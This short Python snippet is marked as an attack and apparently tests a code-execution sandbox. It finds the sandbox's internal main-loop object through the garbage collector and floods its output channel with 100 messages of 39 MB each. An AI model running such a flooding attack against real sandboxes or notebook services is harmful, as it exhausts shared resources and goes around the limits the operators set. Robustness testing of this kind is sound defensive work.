# Sends outputs of 39 MB each, faster than they can be read.
# %% attack
import gc

from sandbox.protocol.channel import OUTPUT
from sandbox.inside.main_loop import MainLoop

main_loop = next(thing for thing in gc.get_objects() if isinstance(thing, MainLoop))
big = bytes(39_000_000)
for _ in range(100):
    main_loop._channel.send(OUTPUT, main_loop._number, [b'["display_data", {"data": {}, "metadata": {}}]', big])
